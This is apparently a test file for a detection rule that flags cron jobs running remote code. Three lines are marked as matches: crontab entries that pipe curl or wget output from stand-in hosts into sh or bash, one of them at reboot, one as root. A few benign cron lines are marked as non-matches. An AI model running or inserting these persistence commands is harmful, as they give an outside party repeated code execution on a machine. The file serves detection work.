# ruleid: bash.cron-remote-execution
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://198.51.100.3/u.sh | sh") | crontab -
# ruleid: bash.cron-remote-execution
echo "@reboot wget -q http://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a" >> /etc/crontab
# ruleid: bash.cron-remote-execution
* * * * * root wget -qO- http://203.0.113.7/m | bash
# ok: bash.cron-remote-execution
0 3 * * * /usr/local/bin/backup.sh
# ok: bash.cron-remote-execution
*/10 * * * * curl -fsS --retry 3 https://hc-ping.example.com/uuid > /dev/null
# ok: bash.cron-remote-execution
crontab -l
